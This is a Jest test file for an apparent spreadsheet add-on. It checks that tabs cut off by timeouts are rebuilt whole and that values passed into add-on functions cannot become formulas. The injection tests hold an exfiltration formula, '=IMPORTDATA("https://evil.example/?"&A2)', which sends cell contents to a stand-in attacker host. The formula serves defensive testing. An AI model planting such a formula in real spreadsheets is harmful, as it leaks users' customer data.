import { describe, expect, test } from '@jest/globals';
import type { RuleList } from '../../src/addon/alerts/rules';
import { failAfter } from '../../workbench';
import { customer, HEADERS } from '../support/eventful';
import { valuesOf } from '../support/sheets';
import { teamWith } from '../support/team';

const open = () => {
  const { bench, grid } = teamWith([HEADERS, customer('C1', 'Kim'), customer('C2', 'Lee')]);
  const sheet = grid.activeSheet;
  const press = <T>(name: string, ...args: unknown[]): T => {
    grid.activeSheet = sheet;
    return bench.runFromClient(name, ...args).result() as T;
  };
  return { bench, grid, press, tab: (name: string) => grid.sheets.find((each) => each.name === name) };
};

describe('A tab that was cut off while it was made', () => {
  test.each([
    ['editRules', 'Vitals rules'],
    ['editNextActions', 'Vitals next actions'],
    ['editPlaybooks', 'Vitals playbooks'],
  ])('is whole after the next press of %s, at whichever call the first one failed', (name, tabName) => {
    const peace = open();
    peace.press(name);
    const whole = valuesOf(peace.tab(tabName)!);
    for (let call = 1; call < 80; call += 3) {
      const { bench, grid, press, tab } = open();
      bench.watch = failAfter(call, 'Service Spreadsheets timed out');
      bench.runFromClient(name);
      bench.watch = {};
      if (tab('Vitals rules')) expect(press<RuleList>('listRules').rules.length).toBeGreaterThan(0);
      press(name);
      expect(valuesOf(tab(tabName)!)).toEqual(whole);
      expect(grid.sheets.filter((each) => each.name === tabName)).toHaveLength(1);
    }
  });
});

describe('No object that is handed in becomes a formula', () => {
  const armed = { formula: '=IMPORTDATA("https://evil.example/?"&A2)' };

  test.each([
    ['correctColumn', ['Notes', armed, '']],
    ['correctColumn', [armed, 'x', armed]],
    ['saveModel', ['segment', armed]],
    ['addCustomerNote', ['C1', armed]],
    ['changeSetting', ['Scoring', 'Minimum coverage', armed]],
  ])('%s(%j)', (name, args) => {
    const { bench, grid, press } = open();
    press('scorePortfolio', {});
    press('showSettings');
    press('insertModel', 'segment');
    bench.runFromClient(name, ...args);
    for (const each of grid.sheets) {
      const area = { row: 0, column: 0, ...each.extent() };
      expect(
        each
          .formulas(area)
          .flat()
          .filter((formula) => formula.includes('IMPORTDATA')),
      ).toEqual([]);
    }
  });

  test('insertFormula takes no function but ours', () => {
    const { bench } = open();
    const { error } = bench.runFromClient('insertFormula', 'IMPORTDATA(A1:AZ1, A2:AZ2)');
    expect(error?.message).toContain('Only formulas over all customers');
  });
});
